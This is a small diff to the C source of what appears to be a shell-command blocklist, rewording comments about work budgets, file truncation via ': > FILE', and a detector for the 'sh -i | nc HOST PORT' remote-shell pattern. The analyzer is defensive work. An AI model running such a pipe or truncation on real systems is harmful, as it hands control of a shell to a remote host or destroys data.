@@ -4,13 +4,13 @@
 #include "blocklist/command/word.h"
 #include "blocklist/effects/autorun.h"
 
-/* Steps of the budget for a redirection, and for a word. */
+/* Steps of the budget for a redirection, and for a word of a shell before a pipe. */
 #define WORK_REDIRECT 60u
 #define WORK_WORD 4u
 
 /* ---- redirections ---- */
 
-/* : > FILE empties it. */
+/* Does @c write nothing, so that : > FILE empties FILE? */
 static bool surroundings_writes_nothing(const struct shell_command *c)
 {
 	const struct shell_word *w = c->words;
@@ -72,7 +72,7 @@ static void surroundings_assigns(const struct shell_command *c, struct action_li
 
 /* ---- answers ---- */
 
-/* sh -i | nc HOST PORT: whoever is at the other end sees what the shell answers. */
+/* sh -i | nc HOST PORT: a remote host controls the shell and reads its output. */
 static void surroundings_answers(const struct place *at, const struct shell_command *c,
 				 struct action_list *out)
 {
